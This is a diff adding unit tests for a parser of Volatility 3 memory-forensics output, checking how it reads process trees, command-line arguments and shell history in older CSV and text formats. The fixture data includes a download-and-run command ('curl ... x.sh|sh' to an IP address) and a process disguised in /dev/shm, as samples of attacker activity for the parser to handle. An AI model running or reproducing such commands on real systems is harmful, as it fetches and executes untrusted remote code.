@@ -158,6 +158,52 @@ public sealed class Volatility3RenderersTests
     }
 
     [Fact]
+    public void The_hand_written_csv_of_volatility_3_before_2_4_gives_the_same_tree_uids_and_times()
+    {
+        var tree = ProcessListingReader.Read(Renderers, "linux.pstree.csv-2.0.1");
+        var pslist = ProcessListingReader.Read(Renderers, "linux.pslist-2.18.csv-2.0.1");
+
+        Assert.Empty(tree.Problems.Concat(pslist.Problems));
+        Assert.Equal(Tree, tree.Rows.Select(r => (r.Pid, r.Ppid ?? -1, r.Comm!, r.Depth ?? -1)));
+        Assert.Equal((33L, "2026-11-29 06:25:00.114000 UTC"), (pslist.Rows.Single(r => r.Pid == 5120).Uid!.Value, pslist.Rows.Single(r => r.Pid == 5120).StartTime));
+        Assert.Equal("0xffff9e3b40002a00", pslist.Rows[0].Offset);
+    }
+
+    [Fact]
+    public void Arguments_in_the_hand_written_csv_keep_their_unescaped_quotes_and_backslashes_and_a_newline_is_named()
+    {
+        var listing = ProcessListingReader.Read(Renderers, "linux.psaux.csv-2.0.1");
+
+        Assert.Equal("sh -c \"curl -s http://198.51.100.7/x.sh|sh\", then \\wait", listing.Rows.Single(r => r.Pid == 5120).Args);
+        Assert.Equal("/dev/shm/kworker/0:2\t-daemon", listing.Rows.Single(r => r.Pid == 5188).Args);
+        var problem = Assert.Single(listing.Problems); // "second line\"": the old writer printed the newline as it was
+        Assert.Equal("line 9", problem.Where);
+        Assert.StartsWith("not a row of the CSV table (1 cells for 5 columns", problem.Problem);
+        Assert.Equal(Tree.Select(t => t.Pid), listing.Rows.Select(r => r.Pid));
+    }
+
+    [Fact]
+    public void A_newline_inside_an_argument_in_pretty_text_before_2_4_runs_onto_a_line_outside_the_table_and_is_named()
+    {
+        var listing = ProcessListingReader.Read(Renderers, "linux.psaux.pretty-2.0.1");
+
+        Assert.Equal("/dev/shm/kworker/0:2\t-daemon", listing.Rows.Single(r => r.Pid == 5188).Args);
+        var problem = Assert.Single(listing.Problems);
+        Assert.Equal("line 9", problem.Where);
+        Assert.StartsWith("not a row of the pretty table (no \" | \" cells", problem.Problem);
+        Assert.Equal(Tree.Select(t => t.Pid), listing.Rows.Select(r => r.Pid));
+    }
+
+    [Fact]
+    public void Bash_history_in_the_hand_written_csv_is_named_too()
+    {
+        var listing = ProcessListingReader.Read(Renderers, "linux.bash.csv-2.0.1");
+
+        Assert.Empty(listing.Rows);
+        Assert.Equal("Volatility 3 linux.bash.Bash (shell history)", listing.Format);
+    }
+
+    [Fact]
     public void A_csv_value_whose_quote_never_closes_is_named_and_the_rows_before_it_are_kept()
     {
         var text = "TreeDepth,PID,PPID,COMM,ARGS\n0,1,0,systemd,/sbin/init\n0,666,1,evil,\"sh -c \"\"x\n0,2,0,kthreadd,[kthreadd]\n";
